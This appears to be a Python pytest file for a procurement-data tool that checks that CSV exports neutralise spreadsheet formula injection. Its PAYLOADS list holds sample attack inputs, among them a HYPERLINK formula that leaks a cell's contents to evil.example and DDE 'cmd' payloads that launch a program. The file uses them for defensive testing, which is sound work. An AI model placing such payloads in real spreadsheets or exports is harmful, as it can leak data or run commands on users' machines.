"""Formula injection (OWASP "CSV injection"): every text cell of every export is neutralised by
``bidwatch.exports.neutralise``; tested here with each dangerous first character, in the shared
function, a pandas frame (the scan's CSV files) and the command line's problem files."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pandas as pd
import pytest

from bidwatch.contract import Problem, write_problems_csv
from bidwatch.exports import FORMULA_PREFIXES, neutralise, neutralise_frame, neutralise_row

#: One payload per dangerous first character (OWASP: = + - @ tab carriage return).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_prefix_is_covered() -> None:
    assert {p[0] for p in PAYLOADS} == set(FORMULA_PREFIXES)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_quoted_text(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["安置房一标段", "A=B", "", "-", None, 12, -3.5, dt.date(2024, 1, 2),
                                   "-12.5", "+86", "1e5"])
def test_harmless_values_are_unchanged(value: object) -> None:
    expected = "'-" if value == "-" else value  # a lone minus is still quoted: only whole numbers pass
    assert neutralise(value) == expected


def test_rows_and_frames() -> None:
    assert neutralise_row(["=1+1", 5, None]) == ["'=1+1", 5, None]
    frame = pd.DataFrame({"title": PAYLOADS, "n": range(len(PAYLOADS)), "price": [-1.5] * len(PAYLOADS)})
    out = neutralise_frame(frame)
    assert list(out["title"]) == ["'" + p for p in PAYLOADS]
    assert list(out["n"]) == list(range(len(PAYLOADS))) and list(out["price"]) == [-1.5] * len(PAYLOADS)
    assert frame["title"][0] == PAYLOADS[0]  # the caller's frame is not changed


@pytest.mark.parametrize("payload", PAYLOADS)
def test_problem_csv_neutralises_the_uploaders_values(tmp_path: Path, payload: str) -> None:
    path = write_problems_csv([Problem("tenders", 2, "title", payload, "文本 / text")], tmp_path / "problems.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][3] == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_ocds_problem_csv_neutralises_the_messages(tmp_path: Path, payload: str) -> None:
    from bidwatch.commands import _write_ocds_problems
    from bidwatch.ocds.reader import Problem

    path = tmp_path / "ocds_problems.csv"
    problem = Problem(3, payload, ocid=payload, path="/tender/title", action="skipped")
    _write_ocds_problems([problem], path, "=evil.jsonl")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == ["'=evil.jsonl", "3", "'" + payload, "/tender/title", "skipped", "跳过", "'" + payload]
